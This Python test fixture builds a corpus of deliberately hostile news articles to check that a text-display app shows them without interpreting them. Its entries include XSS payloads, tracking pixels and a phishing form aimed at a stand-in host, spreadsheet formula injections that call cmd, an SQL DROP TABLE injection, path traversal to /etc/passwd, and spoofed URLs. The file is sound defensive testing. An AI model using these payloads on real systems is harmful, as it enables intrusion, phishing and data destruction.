"""Hostile articles: what strangers may write, and what must be shown and never interpreted.

Each line of `TEXTS` does harm, or changes what is read, in at least one place that shows text:
HTML, Markdown, Plotly, a spreadsheet, an address bar, a JSON or Arrow message. `articles()` gives
them as rows of a corpus; other tests write these to files, open them, and look at every page.
"""

from typing import Any

ELSEWHERE = "http://elsewhere.invalid"
"""Where every address in the articles leads: a browser test fails on any request to it."""

TEXTS: dict[str, str] = {
    "script": "<script>document.title='owned'</script>",
    "image that runs": "<img src=x onerror=\"document.title='owned'\">",
    "image that phones home": f'<img src="{ELSEWHERE}/pixel.png">',
    "svg": "<svg onload=\"document.title='owned'\"><text>x</text></svg>",
    "iframe": f'<iframe src="{ELSEWHERE}/frame"></iframe>',
    "form": f'<form action="{ELSEWHERE}/login"><input name=password><button>Sign in</button>',
    "style": f"<style>body{{display:none;background:url({ELSEWHERE}/bg)}}</style>",
    "overlay": '<div style="position:fixed;inset:0;background:red">Session expired</div>',
    "base and meta": f'<base href="{ELSEWHERE}/"><meta http-equiv=refresh content="0;{ELSEWHERE}">',
    "unclosed tags": "<b><i><mark class='ws-word'><a href='x",
    "closing tags": "</mark></p></div></article></body></html> after",
    "nested tags": "<<b>script>alert(1)<</b>/script>",
    "comment": "before <!-- hidden --> between --> <![CDATA[ x ]]> after",
    "attribute": '" onmouseover="alert(1)" \' onfocus=\'alert(1)\' autofocus x="',
    "entities": "&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp; &copy R&D AT&T",
    "markdown image": f"![tracking]({ELSEWHERE}/pixel.png)",
    "markdown reference": f"![x][1] [1]: {ELSEWHERE}/pixel.png",
    "markdown link": f"[Sign in again]({ELSEWHERE}/login)",
    "javascript link": "[click](javascript:alert(1)) javascript:alert(document.domain)",
    "autolink": f"see <{ELSEWHERE}> and {ELSEWHERE}/a?b=c&d=e, www.elsewhere.invalid/x.",
    "www in capitals": "WWW.ELSEWHERE.INVALID and Www.elsewhere.invalid",
    "e-mail": "write to desk@elsewhere.invalid or mailto:desk@elsewhere.invalid today",
    "emphasis": "*stars* _lines_ **bold** ~~struck~~ `code` ==x== H~2~O x^2^ 5*3*2 a_b_c",
    "heading": "# Heading",
    "list": "1. first - second + third",
    "bullet": "- not a bullet",
    "quote": "> not a quotation",
    "rule": "---",
    "setext": "Title\n=====",
    "table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "code block": "    four spaces",
    "fence": "```python\nprint(1)\n```",
    "line breaks": "one  \ntwo\\\nthree\r\nfour\rfive\u2028six\u2029seven\x0beight\x85nine",
    "dollars": "from $1,000$ to $2,500$ and $x^2$, $$\\frac{1}{2}$$ or $100 and $200",
    "backslashes": r"\# \\ \$5 C:\new\table \(x\) \[y\] \u003cb\u003e",
    "colour": ":red[warning] :blue-background[x] :violet-badge[x] :small[x] :rainbow[x]",
    "shortcode": ":smile: :material/home: :streamlit: :+1:",
    "directive": "::: note ::video[x]{src=1} :span[x]{.y #z}",
    "typography": "a -> b <- c <-> d -- e --- f ... (c) (r) (tm) >= <= != 'q' \"q\"",
    "footnote": "text[^1] [^1]: note",
    "task": "[ ] open [x] done",
    "template braces": "{{ 7*7 }} {% raw %} ${7*7} {0} %(name)s %s %{x} %{customdata[0]} {x!r}",
    "plotly tags": f'<b>bold</b><br>new<span style="font-size:90px">big</span>'
    f'<a href="{ELSEWHERE}">in</a><sub>s</sub><extra></extra>',
    "streamlit colours": "#000001 #000011 #000032 #ff0000",
    "marks of direction": "abc \u202egnp.exe\u202c \u2066x\u2069 \u200fy\u200e \u061cz",
    "arabic": "قال الرئيس في القاهرة: 25 \u200fقتيلا",
    "nul": "before\x00after",
    "controls": "bell\x07 back\x08 escape\x1b[31m delete\x7f c1\x9b unit\x1f",
    "surrogate": "half \ud83d of a pair",
    "non-characters": "x\ufffey\uffffz",
    "zero width": "zero\u200bwidth\u2060joined\ufeffmark soft\u00adhyphen",
    "combining": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324go",
    "emoji": "family 👨\u200d👩\u200d👧 flag 🇺🇦 skin 👍🏽",
    "formula": '=HYPERLINK("http://elsewhere.invalid/?"&A1,"Read")',
    "formula plus": "+1+1|cmd'!A0",
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1",
    "formula return": "\r=1+1",
    "formula full width": "\uff1d1+1",
    "formula after spaces": "  =1+1",
    "quoted cell": 'a "quoted", cell;\n=1+1',
    "sql": "'; DROP TABLE articles; --",
    "query": 'title:( AND "unclosed NOT [a TO b] /re(/ ~9 ^9',
    "path": "../../../../etc/passwd C:\\..\\..\\con.txt",
    "link of this app": "?actors=nobody&dates=9999-99-99#top",
}

ADDRESSES: tuple[str, ...] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://elsewhere.invalid/x",
    "//elsewhere.invalid/x",
    "/relative",
    "http://",
    "http:///path",
    "https://user:secret@elsewhere.invalid/",
    "https://trusted.example@elsewhere.invalid/",
    "https://elsewhere.invalid\\@trusted.example/",
    "https://elsewhere.invalid/\x00",
    "https://elsewhere.invalid/a b",
    "https://elsewhere.invalid/\u202egpj.exe",
    "https://[::1/",
    "https://elsewhere.invalid:port/",
    "http://\ud83d.invalid/",
    "",
)
"""Addresses that no reader is ever given as a link."""


def articles() -> list[dict[str, Any]]:
    """Return the hostile articles: title, text, date, source, url, author; all of them strings.

    Each of `TEXTS` is title, author and source of its article as well as a part of its text. Then
    come the articles whose size or emptiness is the trouble. Halves of surrogate pairs are in:
    JSON can write them (`\\ud83d`), UTF-8 cannot.
    """
    rows = [_article(number, name, text) for number, (name, text) in enumerate(TEXTS.items())]
    rest = {"date": "2025-02-01", "source": "The Gazette", "url": "", "author": ""}
    return [
        *rows,
        {"title": "A million characters in one line", "text": "x" * 1_000_000} | rest,
        {"title": "A million tags in one line", "text": "<b>" * 333_334} | rest,
        {"title": "A very long title " * 300, "text": "Short."} | rest,
        {"title": "Unbreakable" + "e" * 5_000, "text": "Short, too."} | rest,
        {"title": " \u00a0\t ", "text": "The title is nothing but spaces."} | rest,
        {"title": "", "text": "There is no title at all."} | rest,
        {"title": "There is no text", "text": ""} | rest,
        {"title": "The text is nothing but spaces", "text": " \n\t \n"} | rest,
        {"title": "Ten thousand lines", "text": "line\n" * 10_000} | rest,
    ]


def _article(number: int, name: str, text: str) -> dict[str, Any]:
    return {
        "title": f"{text} [{name}]" if number % 2 else text,
        "text": f"A report on {name}.\n\n{text}\n\n{text} {text}\nThe end.",
        "date": f"2025-01-{1 + number % 28:02}",
        "source": text,
        "url": ADDRESSES[number % len(ADDRESSES)],
        "author": text,
    }
